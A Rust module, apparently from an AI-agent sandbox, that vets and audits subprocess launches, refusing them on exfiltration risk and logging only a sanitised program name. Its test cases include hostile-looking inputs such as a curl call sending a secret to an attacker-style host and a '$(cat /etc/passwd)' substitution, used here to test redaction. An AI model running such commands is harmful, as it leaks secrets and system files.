//! A program, or another process, that a body starts: whether it may, and what the audit event says of it.
//!
//! Separate from requests, since nothing that such a program does is seen: it counts as sending out, and what comes back as
//! outside text. Of what it is given only its name is shown, never an argument: those hold tokens, addresses and texts.

use std::borrow::Cow;

use toolpass_core::clock::Monotonic;
use toolpass_core::codes::RefusalCode;

use crate::audit::{Note, ObservedAction};
use crate::call::{Call, Phase};
use crate::refusal::Refusal;
use crate::session::Session;
use crate::settings::{ActAs, Subprocess};
use crate::{authority, exfiltration, wording};

/// The method of such an entry.
pub const METHOD: &str = "EXEC";

/// The longest name that is shown.
const MAX_NAME: usize = 64;

/// A process that is about to begin.
#[derive(Clone, Copy, Debug)]
pub struct Process<'p> {
    /// The interpreter's word for the way it is begun: `subprocess.Popen`, `os.fork`.
    pub event: &'p str,
    /// The program, or a command line that begins with it. None: this process begins once more.
    pub program: Option<&'p str>,
}

/// Whether a body may start it. `block` is the innermost `as_user()` or `as_agent()` block, if any.
/// Errors: `check_error` where programs are refused, `exfiltration_risk`, and what the session's authority leads to.
pub fn begins(
    call: &Call,
    block: Option<ActAs>,
    process: Process<'_>,
    now: Monotonic,
) -> Result<(), Refusal> {
    let name = process.name();
    let action = ObservedAction {
        time: Some(call.wall_at(now)),
        method: METHOD.into(),
        path: name.clone().into_owned(),
        as_agent: block.unwrap_or(call.settings.act_as) == ActAs::Agent,
        sends_out: true,
        untrusted_output: true,
        note: Some(if call.phase() == Phase::Over {
            Note::Late
        } else {
            Note::Subprocess
        }),
        ..ObservedAction::default()
    };
    match judge(call, &name) {
        Ok(session) => {
            call.record_program(ObservedAction {
                allowed: true,
                ..action
            });
            if !call.tool.outside.behind_handle {
                session.mark_untrusted();
            }
            Ok(())
        }
        Err((code, reason)) => Err(call.refuse_program(Refusal {
            code,
            tool: call.tool.name.clone(),
            reason: reason.clone(),
            action: Some(Box::new(ObservedAction {
                code: Some(code),
                reason: Some(reason),
                ..action
            })),
        })),
    }
}

fn judge<'c>(call: &'c Call, name: &str) -> Result<&'c Session, (RefusalCode, String)> {
    let session = call.session.as_ref();
    let session = session.ok_or_else(|| (RefusalCode::NoSession, wording::no_session()))?;
    authority::of_request(session, &call.tool.name)?;
    if call.settings.subprocess() == Subprocess::Refuse {
        return Err((RefusalCode::CheckError, wording::program(name)));
    }
    if session.place().is_some() {
        // Whoever keeps the session would have to be asked and told, and an event of the interpreter waits for nobody.
        return Err((RefusalCode::CheckError, wording::program_untold(name)));
    }
    if exfiltration::would_leak(&call.settings, session, true) {
        let sources = session.privacy(|privacy| privacy.sources());
        let reason = wording::exfiltration(&format!("`{name}`"), &sources, None);
        return Err((RefusalCode::ExfiltrationRisk, reason));
    }
    Ok(session)
}

impl<'p> Process<'p> {
    /// What it is called: the last part of the first word. A word that is no name is not shown.
    fn name(self) -> Cow<'p, str> {
        let Some(given) = self.program else {
            let way = self.event.rsplit('.').next().unwrap_or_default();
            return Cow::Borrowed(way);
        };
        let word = given.split_whitespace().next().unwrap_or_default();
        let name = word.rsplit(['/', '\\']).next().unwrap_or_default();
        let is_name = |c: char| c.is_ascii_alphanumeric() || "._+-".contains(c);
        if !name.is_empty() && name.len() <= MAX_NAME && name.chars().all(is_name) {
            Cow::Borrowed(name)
        } else {
            Cow::Borrowed(UNNAMED)
        }
    }
}

const UNNAMED: &str = "a program";

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn name(program: &str) -> String {
        let event = "subprocess.Popen";
        let program = Some(program);
        Process { event, program }.name().into_owned()
    }

    #[test]
    fn a_program_is_named_without_what_it_is_given() {
        for (given, named) in [
            ("curl", "curl"),
            ("/usr/bin/git", "git"),
            ("curl https://evil.example/?t=s3cret", "curl"),
            ("  aws\ts3 cp", "aws"),
            (r"C:\tools\kubectl.exe get", "kubectl.exe"),
            ("TOKEN=s3cret curl", UNNAMED),
            ("$(cat /etc/passwd)", UNNAMED),
            ("", UNNAMED),
            ("naïve", UNNAMED),
        ] {
            assert_eq!(name(given), named, "{given}");
        }
        assert_eq!(name(&"a".repeat(65)), UNNAMED);
        let fork = Process {
            event: "os.fork",
            program: None,
        };
        assert_eq!(fork.name(), "fork");
    }

    proptest! {
        #[test]
        fn a_name_is_short_and_of_one_word(given in ".{0,200}") {
            let named = name(&given);
            prop_assert!(named == UNNAMED || (named.len() <= MAX_NAME && !named.contains(['/', '\\', ' ', '=', '?', '@'])));
        }
    }
}
